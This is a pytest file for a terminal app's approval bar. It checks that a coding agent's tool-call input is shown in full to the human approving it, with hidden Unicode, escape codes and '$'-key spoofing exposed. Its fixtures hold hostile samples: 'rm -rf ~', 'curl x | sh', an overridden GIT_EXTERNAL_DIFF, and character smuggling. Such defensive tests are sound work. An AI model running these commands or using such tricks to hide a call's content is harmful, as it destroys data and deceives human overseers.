"""The approval bar shows every key of a call's input, hostile characters visible, and a cut
says what it left out and which key shows all of it (snapshots at 160x48 and 80x24, Pilot,
and the same input in headless and export)."""

from __future__ import annotations

import io
import re

import pytest
from rich.text import Text
from support.event_loop import run
from support.journals import fixture_events, write
from support.live_app import gated, make_app, pending, settle, turn
from textual.widgets import Input

from cockpit.export import export_journal
from cockpit.headless import LinePrinter, format_event
from cockpit.screens import PagerScreen
from cockpit.styles import Palette
from cockpit.themes import load_themes
from cockpit.widgets.approval.input import fit_input, fit_rows, input_blocks
from engine_adapter import ApprovalRequested, ToolStart
from engine_adapter.text import has_unsafe

LONG = "\n".join(f"echo step {i} && make target-{i}" for i in range(1, 31))
HOSTILE = {
    "command": "git status\u200b --short\u202e\x1b[31m\n" + LONG,
    "cmd": "rm -rf ~",
    "env": {"GIT_EXTERNAL_DIFF": "/tmp/x.sh", "PAGER": "less\u200b"},
    "cwd": "/home/user/elsewhere",
}
PALETTE = Palette(load_themes()["cockpit-dark"])


@pytest.fixture(autouse=True)
def _home(tmp_path, monkeypatch):
    monkeypatch.setenv("COCKPIT_HOME", str(tmp_path / "home"))


def _hostile_app():
    return make_app(turn(1, "Checking the tree."), gated("c1", "shell", HOSTILE), clock=None)


def _until_pending(app):
    async def run_before(pilot):
        await settle(pilot, lambda: pending(app) == ["c1"])
        for widget in app.query(Input):
            widget.cursor_blink = False
        await pilot.pause()
    return run_before


def test_hostile_approval_at_160x48(snap_compare):
    app = _hostile_app()
    assert snap_compare(app, terminal_size=(160, 48), run_before=_until_pending(app))


def test_hostile_approval_at_80x24(snap_compare):
    app = _hostile_app()
    assert snap_compare(app, terminal_size=(80, 24), run_before=_until_pending(app))


@pytest.mark.parametrize("size", [(160, 48), (80, 24)])
def test_every_key_stays_in_sight_and_the_cut_says_so(size):
    async def main():
        app = _hostile_app()
        async with app.run_test(size=size) as pilot:
            await settle(pilot, lambda: pending(app) == ["c1"])
            await pilot.pause()
            body = app.query_one("#approval-input").render()
            shown = body.plain if isinstance(body, Text) else str(body)
            assert "git status⟨U+200B⟩ --short⟨U+202E⟩␛[31m" in shown
            assert "cmd: rm -rf ~" in shown and "cwd: /home/user/elsewhere" in shown
            assert "GIT_EXTERNAL_DIFF=/tmp/x.sh" in shown and "PAGER='less⟨U+200B⟩'" in shown
            assert not has_unsafe(shown)
            note = re.search(r"… ([\d,]+) more lines? (?:\(([\d,]+) characters\) )?· press i "
                             r"to see the whole input", shown)
            assert note, shown
            command_rows = [line for line in shown.split("\n") if "make target-" in line]
            hidden = int(note.group(1))
            partial = bool(note.group(2))
            assert len(command_rows) + hidden - partial == 30  # every line shown or counted
            assert app.query_one("#approval").input_cut
            # The markers stand out: in the warning colour, reversed.
            marked = [body.plain[s.start:s.end] for s in body.spans
                      if s.style and getattr(s.style, "reverse", False)]
            assert "⟨U+200B⟩" in marked and "␛" in marked and "⟨U+202E⟩" in marked
    run(main())


def test_a_tiny_bar_still_says_what_it_cut():
    async def main():
        app = _hostile_app()
        async with app.run_test(size=(40, 12)) as pilot:
            await settle(pilot, lambda: pending(app) == ["c1"])
            await pilot.pause()
            shown = app.query_one("#approval-input").render().plain
            # The bar scrolls, so the input keeps a few rows (its first, and every key), and a
            # note saying how much more there is, and how to see it.
            lines = 31 + 2 + 3  # the command's, cmd and cwd, env and its two variables
            rows = shown.split("\n")
            assert rows[0].startswith("$ git status")
            assert "cmd: rm -rf ~" in shown and "GIT_EXTERNAL_DIFF=/tmp/x.sh" in shown
            at = next(i for i, row in enumerate(rows) if row.startswith("… "))
            pattern = (r"… ([\d,]+) more lines?(?: \(([\d,]+) characters\))? · "
                       r"press i to see the whole input")
            end = next(end for end in range(at + 1, len(rows) + 1)  # (rows of the bar's width)
                       if re.fullmatch(pattern, "".join(rows[at:end])))
            counted = re.fullmatch(pattern, "".join(rows[at:end]))
            assert counted  # (with the characters of a line shown in part)
            assert int(counted.group(1)) + len(rows) - (end - at) == lines
    run(main())


def test_i_shows_the_whole_input_of_the_pending_call():
    async def main():
        app = _hostile_app()
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot, lambda: pending(app) == ["c1"])
            await pilot.press("i")
            await settle(pilot, lambda: isinstance(app.screen, PagerScreen))
            lines = app.screen.query_one("#pager").lines
            whole = "\n".join(lines)
            assert whole.startswith("whole input:\n$ git status\u200b --short")
            assert "echo step 30 && make target-30" in whole
            assert "cmd: rm -rf ~" in whole and "cwd: /home/user/elsewhere" in whole
            assert "GIT_EXTERNAL_DIFF=/tmp/x.sh" in whole
            # Each line is drawn with its markers (no raw character reaches the terminal).
            drawn = "".join(seg.text for y in range(20)
                            for seg in app.screen.query_one("#pager").render_line(y))
            assert "⟨U+200B⟩" in drawn and "\u200b" not in drawn
    run(main())


def test_a_remapped_inspect_key_is_the_one_the_bar_names(monkeypatch):
    async def main():
        app = _hostile_app()
        app.config.keymap = {"inspect": "v"}
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot, lambda: pending(app) == ["c1"])
            await pilot.pause()
            shown = app.query_one("#approval-input").render().plain
            assert "press v to see the whole input" in shown
            await pilot.press("v")
            await settle(pilot, lambda: isinstance(app.screen, PagerScreen))
    run(main())


def test_a_short_input_is_not_cut():
    blocks = input_blocks({"command": "ls -la", "cwd": "/x"}, PALETTE)
    text, was_cut = fit_input(blocks, rows=5, width=80, hint="press i", palette=PALETTE)
    assert not was_cut and text.plain == "$ ls -la\ncwd: /x"


def test_a_second_command_key_and_argv_are_both_shown():
    blocks = input_blocks({"command": "ls", "cmd": "rm -rf ~", "argv": ["rm", "-rf", "a b"]},
                          PALETTE)
    plain = Text("\n").join(b.text for b in blocks).plain
    assert plain == "$ ls\ncmd: rm -rf ~\nargv: rm -rf 'a b'"
    blocks = input_blocks({"argv": ["git", "diff"], "env": {"A": "1"}}, PALETTE)
    assert Text("\n").join(b.text for b in blocks).plain == "$ git diff\nenv: A=1"


@pytest.mark.parametrize("width", [20, 40, 80, 160])
@pytest.mark.parametrize("rows", [3, 5, 9, 20])
def test_a_cut_fits_its_rows_and_counts_exactly(rows, width):
    body = Text("\n".join(f"line {i} " + "x" * (i * 7 % 90) for i in range(100)))
    shown = fit_rows(body, rows=rows, width=width, hint="press i to see the whole input",
                     palette=PALETTE)
    plain = shown.plain
    kept, note = plain.rsplit("\n", 1) if "\n" in plain else ("", plain)
    assert body.plain.startswith(kept)
    found = re.match(r"… ([\d,]+) more lines?(?: \(([\d,]+) characters\))?", note)
    assert found, note
    lines_left = int(found.group(1).replace(",", ""))
    assert lines_left == 100 - len(kept.split("\n")) if kept else 100
    rows_used = sum(max(1, -(-len(line) // width)) for line in plain.split("\n"))
    note_rows = -(-len(note) // width)
    assert rows_used <= max(rows, 1 + note_rows)


def test_headless_shows_the_same_keys():
    event = ApprovalRequested(approval_id="c1", tool="shell", reason="runs git",
                              tool_input=HOSTILE, tier=3, prefix="")
    _, text, _ = format_event(event)
    assert text.startswith("c1 shell [tier 3] $ git status\u200b --short\u202e\x1b[31m⏎echo")
    assert "cmd: rm -rf ~" in text and "cwd: /home/user/elsewhere" in text
    assert "env: GIT_EXTERNAL_DIFF=/tmp/x.sh PAGER='less\u200b'" in text
    out = io.StringIO()
    LinePrinter(out).handle(event)
    printed = out.getvalue()
    assert "$ git status\\u200b --short\\u202e\\x1b[31m⏎echo step 1" in printed
    assert "echo step 30 && make target-30 · cmd: rm -rf ~ · cwd: /home/user/elsewhere · " \
           "env: GIT_EXTERNAL_DIFF=/tmp/x.sh PAGER='less\\u200b' — runs git" in printed
    assert not has_unsafe(printed)


def test_export_shows_the_same_keys(tmp_path):
    events = [e for e in fixture_events() if e.type != "agent_end"]
    events += [ApprovalRequested(approval_id="c9", tool="shell", reason="runs git",
                                 tool_input=HOSTILE, tier=3, prefix=""),
               ToolStart(call_id="c9", tool="shell", tool_input=HOSTILE, tier=3)]
    events = [e.model_copy(update={"seq": i, "ts": 1000.0 + i, "session_id": "s"})
              for i, e in enumerate(events)]
    path = tmp_path / "hostile.jsonl"
    write(path, events)
    md = export_journal(path, "markdown").text
    assert "$ git status\\u200b --short\\u202e\\x1b[31m\necho step 1" in md
    assert "cmd: rm -rf ~" in md and "cwd: /home/user/elsewhere" in md
    assert "env:\n  GIT_EXTERNAL_DIFF=/tmp/x.sh\n  PAGER='less\\u200b'" in md
    assert not has_unsafe(md)
    page = export_journal(path, "html").text
    assert ("git status<mark class='unsafe' title='unsafe character U+200B'>⟨U+200B⟩</mark>"
            in page)
    assert "cmd: rm -rf ~" in page and "GIT_EXTERNAL_DIFF=/tmp/x.sh" in page
    assert not has_unsafe(page)


@pytest.mark.parametrize("tool_input", [
    {"path": "notes.txt", "$": "rm -rf ~"},  # a write whose input has a "$" key
    {"$": "rm -rf ~"},  # nothing but it
    {"command": "ls", "$": "rm -rf ~"},  # beside the real command
    {"argv": ["ls"], "$": "rm -rf ~"},
    {"$": "rm -rf ~\ncurl x | sh"},  # several lines: the key on its own line
    {"$": ["rm", "-rf", "~"]},  # words
    {"$": {"HOME": "/"}},  # pairs
    {"$": {"": "", "0": ""}},  # (found by hypothesis: pairs with empty names)
])
def test_a_key_named_dollar_never_passes_for_the_command_line(tool_input):
    """Every view labels the command by what it is, not by a label an agent can pick."""
    from engine_adapter.view import input_line, input_text

    real = tool_input.get("command") or " ".join(tool_input.get("argv", [])) or None
    line, whole = input_line(tool_input), input_text(tool_input)
    starts = [part for part in line.split(" · ") if part.startswith("$ ")]
    assert starts == ([f"$ {real}"] if real else [])
    assert [row for row in whole.split("\n") if row.startswith("$ ")] == starts
    assert '"$":' in line and '"$":' in whole
    blocks = Text("\n").join(b.text for b in input_blocks(tool_input, PALETTE)).plain
    assert [row for row in blocks.split("\n") if row.startswith("$ ")] == starts
    event = ApprovalRequested(approval_id="c1", tool="write_file", reason="writes",
                              tool_input=tool_input, tier=2, prefix="")
    _, text, _ = format_event(event)
    assert "$ rm" not in text and '"$":' in text


@pytest.mark.parametrize("key", [
    "$ rm -rf ~",  # an empty value: the row would read `$ rm -rf ~: `
    "$rm",
    "$HOME",
    "  $ rm -rf ~",  # would read as the indented continuation of the value above
    " x",
    "\t$ x",
    "\u3000$ x",  # an ideographic space
    "",  # an empty key: the row would start with `: `
])
def test_a_key_that_could_pass_for_a_command_or_a_continuation_is_quoted(key):
    """The command line starts `$ `, a long value's lines are indented: a key that starts so
    (or is empty) is shown in quotes, in every view, so no row of the input reads as either."""
    from engine_adapter.view import input_line, input_text

    tool_input = {"path": "notes.txt\nmore", key: ""}
    label = f'"{key}"'
    whole = input_text(tool_input).split("\n")
    assert f"{label}: " in whole  # its own row, quoted
    assert [row for row in whole if row.startswith(("$", " "))] == ["  notes.txt", "  more"]
    parts = input_line(tool_input).split(" · ")
    assert f"{label}: " in parts and not [p for p in parts if p.startswith(("$", " "))]
    rows = Text("\n").join(b.text for b in input_blocks(tool_input, PALETTE)).plain.split("\n")
    assert rows[0].startswith('"') and rows[0].endswith('": ')  # (the bar lays tabs out)
    assert [row for row in rows if row.startswith(("$", " "))] == ["  notes.txt", "  more"]
